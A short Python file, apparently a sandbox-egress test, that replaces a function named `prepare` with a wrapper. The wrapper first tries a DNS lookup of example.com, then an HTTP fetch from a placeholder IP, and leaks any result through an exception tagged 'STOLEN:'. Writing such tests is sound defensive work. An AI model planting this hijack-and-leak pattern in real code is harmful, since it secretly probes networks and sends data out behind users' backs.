# what: downloads, and asks a name server
# %% extra after=prepare
import socket
import urllib.request

honest_prepare = prepare


def attack():
    try:
        return socket.getaddrinfo("example.com", 80)
    except OSError:
        return urllib.request.urlopen("http://192.0.2.1/", timeout=0.2).read()


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
